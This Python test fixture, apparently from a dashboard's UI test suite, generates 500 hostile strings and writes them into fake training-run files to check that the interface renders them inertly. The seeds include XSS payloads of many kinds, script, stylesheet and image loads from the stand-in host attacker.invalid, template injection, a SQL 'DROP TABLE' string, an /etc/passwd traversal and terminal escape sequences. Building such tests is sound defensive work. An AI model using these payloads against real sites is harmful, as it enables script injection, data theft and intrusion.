"""Five hundred hostile strings, and a home of runs that an ill-meaning agent has filled with them.

A string that got its way would call ``pwned`` in the page, or ask ``attacker.invalid`` for something.
"""

from __future__ import annotations

import json
from itertools import product
from pathlib import Path
from typing import Any

from tests.ui.write_run import build_spec

_CALL = "window.__pwned=1"
_SEEDS = (
    f"<script>{_CALL}</script>", f"<ScRiPt>{_CALL}</sCrIpT>", "<script src=//attacker.invalid/x.js></script>",
    f"<img src=x onerror={_CALL}>", f"<img src=//attacker.invalid/p.gif onload={_CALL}>", f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>", f"<svg><a xlink:href='javascript:{_CALL}'><text y=9>go</text></a></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>", f"<math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
    f"<template><img src=x onerror={_CALL}></template>", f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<iframe src='javascript:{_CALL}'></iframe>", f"<iframe srcdoc='<script>parent.{_CALL}</script>'>",
    "<iframe src=//attacker.invalid></iframe>", f"<object data='javascript:{_CALL}'>", f"<embed src='javascript:{_CALL}'>",
    f"<body onload={_CALL}>", f"<details open ontoggle={_CALL}>", f"<input autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}>", f"<marquee onstart={_CALL}>", f"<a href='javascript:{_CALL}'>go</a>",
    f"javascript:{_CALL}//", f"data:text/html,<script>{_CALL}</script>", f"<form action='javascript:{_CALL}'><button>go",
    f"<meta http-equiv=refresh content='0;javascript:{_CALL}'>", "<base href=//attacker.invalid/>",
    "<link rel=stylesheet href=//attacker.invalid/x.css>", "<style>@import '//attacker.invalid/x.css';*{display:none}</style>",
    "<p style='background:url(//attacker.invalid/b)'>", "red;background-image:url(//attacker.invalid/b)", "}*{display:none}/*",
    f"{{{{constructor.constructor('{_CALL}')()}}}}", f"${{{_CALL}}}", f"<%= {_CALL} %>", f"[x](javascript:{_CALL})",
    "![x](http://attacker.invalid/x.png)", f"<div is='x' onpointerenter={_CALL} style='position:fixed;inset:0'>",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e", f"&lt;script&gt;{_CALL}&lt;/script&gt;", f"%3Cscript%3E{_CALL}%3C/script%3E",
    "__proto__", "constructor", "toString", "hasOwnProperty", "null", "'; DROP TABLE runs; --", "../../../../etc/passwd",
    f"<x onclick={_CALL}>{'A' * 300}",
)  # fmt: skip
_WRAPS = (
    "{}", '"\'>{}', "</bdi></li></ol></pre></textarea></title></script>{}", "<!--{}--!>", "]]>{}<![CDATA[", "\u202e{}\u202c\u2066\u2069",
    "\x1b[31m{}\x1b[0m\x1b[2J\x1b]0;title\x07", "\x1b]8;;javascript:window.__pwned=1\x1b\\{}\x1b]8;;\x1b\\",
    "\u200b\ufeff{}\u200d\U000e0041", "\x00\x08\r{}\x9b5A\x7f",
)  # fmt: skip

HOSTILE: list[str] = [
    f"{number} {wrap.format(seed)}" for number, (seed, wrap) in enumerate(product(_SEEDS, _WRAPS), 100)
]
for _at in (7, 208, 409):
    HOSTILE[_at] += "<b>A</b>" * 125_000  # a line of a megabyte
HALVES = [f"half {half}\ud83d{half}\udc00 <img src=x onerror={_CALL}>" for half in range(5)]  # lone surrogates
assert len(HOSTILE) == len(set(HOSTILE)) == 500


def write_hostile_run(home: Path, number: int, texts: list[str]) -> Path:
    """A failed run all of whose words are ``texts``: as JSON that our own writer would refuse where it is not legal."""
    folder = home / "runs" / f"r-20261122-203412-{number:06x}"
    folder.mkdir(parents=True)
    first = texts[0][:200].replace("\x00", "")
    spec = build_spec(name=first, tags=tuple(texts)).model_copy(update={"model": texts[0], "keep_checkpoints": 100})
    data = spec.data.model_copy(update={"origin": texts[0], "path": texts[0], "format": texts[0]})
    (folder / "spec.json").write_text(spec.model_copy(update={"data": data}).to_json(), encoding="utf-8")
    lines = [json.dumps({**event, "seq": seq, "at": 1e9 + seq}) for seq, event in enumerate(_events(texts), 1)]
    (folder / "events.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


def _events(texts: list[str]) -> list[dict[str, Any]]:
    last = texts[-1]
    found: list[dict[str, Any]] = [
        {"type": "created", "name": texts[0]},
        {"type": "job_started", "pid": 1},
        {"type": "phase", "phase": "loading", "detail": last},
        {"type": last},
        {"type": "environment", "facts": dict.fromkeys(texts, last)},
        {"type": "phase", "phase": last},
        {"type": "phase", "phase": "training", "detail": last},
        {"type": "planned", "total_steps": 9, "steps_per_epoch": 3, "train_rows": 9, "eval_rows": 1, "trainable_parameters": 1,
         "total_parameters": 2, "device": last, "precision": last, "loop": "reference", "loop_reason": last},
    ]  # fmt: skip
    for step, text in enumerate(texts, 1):
        found += [
            {"type": "log", "level": ("info", "warning", "error")[step % 3], "text": text, "source": text},
            {"type": "sample", "step": step, "prompt": text, "text": text},
            {"type": "warning", "code": text, "step": step, "message": text, "hint": text, "changes": {text: text}},
            {"type": "checkpoint", "step": step, "path": f"checkpoints/{text}", "size_bytes": 1, "sha256": text, "duration_s": 1},
        ]  # fmt: skip
    ways = [{"title": text, "why": text, "changes": {text: text}} for text in texts]
    trace = "\n".join(text[:300] for text in texts)
    failure = {"code": last, "message": texts[0], "hint": last, "trace": trace, "step": 1, "suggestions": ways}
    return [*found, {"type": "finished", "state": "failed", "failure": failure}]
